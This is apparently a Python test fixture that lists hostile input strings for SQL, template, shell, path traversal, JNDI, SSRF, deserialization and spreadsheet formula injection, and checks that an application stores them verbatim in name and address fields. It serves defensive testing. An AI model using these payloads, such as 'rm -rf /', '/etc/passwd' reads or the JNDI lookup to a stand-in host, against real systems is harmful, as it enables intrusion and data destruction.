# ruff: noqa: E501
"""Texts of people who mean harm, to databases, pages, templates, shells and spreadsheets: only texts, and kept as told."""

from __future__ import annotations

from collections.abc import Iterator

from tests.corpus.cases import Case, Outcome, each
from tests.ui.payloads import PAYLOADS

__all__ = ["FORMULAS", "SHELL", "SQL", "TEMPLATES", "harm"]

SQL = (
    "'; drop table source_record; --", "' OR '1'='1", "' OR 1=1 --", '" OR ""="', "1; DELETE FROM link", "admin'--", "') OR ('a'='a", "' UNION SELECT 1,2,3 --",
    "'; EXEC xp_cmdshell('dir'); --", "1 AND 1=1", "1' AND SLEEP(5)--", "'; SELECT pg_sleep(5); --", "'||(select 1)||'", "%' OR '%'='", "\\'; drop table x; --",
    "x'; ATTACH DATABASE 'y' AS z; --", "$$; drop table x; $$", "'; COPY x TO '/tmp/x'; --", "Robert'); DROP TABLE Students;--", "0x27206f72", "/**/OR/**/1=1",
    "' HAVING 1=1 --", "' GROUP BY 1 --", "'; VACUUM; --", ":name", "%(name)s", "?", "??", "$1", "@p1", "%s %s %s", "{0}", "\"; PRAGMA writable_schema=1; --",
    "' || current_user || '", "';;;;", "NULL; --", "ＯＲ 1=1 ＇", "' ESCAPE '\\", "_%", "\\_\\%",
)  # fmt: skip
TEMPLATES = (
    "{{7*7}}", "{{ config }}", "{% raw %}", "{# seven #}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "${{7*7}}", "{{constructor.constructor('x')()}}", "{{''.__class__.__mro__}}",
    "{{request.application}}", "{%for x in y%}", "%{7*7}", "@(7*7)", "[[7*7]]", "{{{seven}}}", "{{=7}}", "$(7)", "#set($x=7)", "{php}x{/php}", "{0.__class__}",
    "{name!r:>1000000000}", "%(x)1000000000d", "%n%n%n%n", "%08x %08x", "[bold]x[/bold]", "[/]", "[link=file:///]x[/link]", ":smile:", "{user.password}",
)  # fmt: skip
SHELL = (
    "; rm -rf /", "| cat /etc/passwd", "`id`", "$(id)", "&& id", "\n id", "../../../../etc/passwd", "..\\..\\windows\\win.ini", "/dev/null", "file:///etc/passwd", "CON", "NUL",
    "C:\\x", "~root", "-rf", "--help", "%2e%2e%2f", "%00", "\\\\host\\share", "${jndi:ldap://x.example/a}", "${env:HOME}", "() { :;}; id", "*)(uid=*))(|(uid=*", "x' or '1'='1' or 'x'='y",
    "<!ENTITY x SYSTEM 'file:///'>", "<?xml version='1.0'?>", "<![CDATA[x]]>", "http://169.254.169.254/", "gopher://x", "a\r\nSet-Cookie: x=1", "a\nINFO forged line", "Content-Length: 0",
    "{\"$gt\": \"\"}", "[$ne]=1", "__proto__", "constructor", "toString", "O:8:\"stdClass\":0:{}", "!!python/object/apply:os.system", "__import__('os')", "eval(x)", "rO0ABXNyAA",
)  # fmt: skip
FORMULAS = (
    "=1+1", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://x.example\")", "+1+1", "-1+1", "@SUM(1)", "=IMPORTXML(\"x\")", "=A1", "==1", "+cmd|' /C calc'!A0", "-cmd|x", "@xy", "\t=1+1",
    "\n=1+1", "\r=1+1", "=WEBSERVICE(\"x\")", "=DDE(\"x\")", "%=1", "|xy", ";=1", ",=1", "＝1+1", "＋1", "－1", "＠xy",
)  # fmt: skip
_PLACES = ("given_name", "family_name", "street_address", "city")


def harm() -> Iterator[Case]:
    """Return the cases about texts that mean harm. Whether they identify somebody depends on their letters."""
    for family, texts in (
        ("SQL", SQL),
        ("HTML", PAYLOADS),
        ("templates", TEMPLATES),
        ("shells and parsers", SHELL),
    ):
        for case in each(
            family,
            _PLACES if family != "HTML" else ("family_name", "street_address"),
            texts,
            Outcome.ACCEPTED,
        ):
            lettered = any(letter.isalnum() for letter in case.text)
            yield case if lettered else Case(family, case.attribute, case.text, Outcome.KEPT)
    yield from each("formulas", _PLACES[1:], FORMULAS, Outcome.ACCEPTED)
